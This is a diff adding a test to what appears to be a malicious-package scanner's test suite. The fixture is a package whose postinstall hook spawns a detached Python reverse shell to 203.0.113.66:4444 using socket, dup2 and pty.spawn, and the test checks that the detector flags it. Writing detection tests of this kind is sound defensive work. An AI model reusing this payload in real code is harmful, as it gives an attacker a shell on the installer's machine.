@@ -1996,3 +1996,15 @@ for (const d of fs.readdirSync(root)) execSync('npm version patch --no-git-tag-v
     expect(r.evidence.find((f) => f.rule === 'js.exec-npm-publish')?.confidence).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+describe('a reverse shell inside inline code a spawned interpreter runs', () => {
+  it('python3 -c with a socket, dup2 and pty.spawn, the code joined from a list', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const { spawn } = require('child_process');
+const code = ['import socket,os,pty', 's=socket.socket()', 's.connect(("203.0.113.66",4444))', '[os.dup2(s.fileno(),f) for f in (0,1,2)]', 'pty.spawn("/bin/sh")'].join(';');
+spawn('python3', ['-c', code], { detached: true, stdio: 'ignore' }).unref();`,
+    });
+    expect(r.evidence.find((f) => f.rule === 'js.exec-reverse-shell')?.line).toBe(3);
+  });
+});
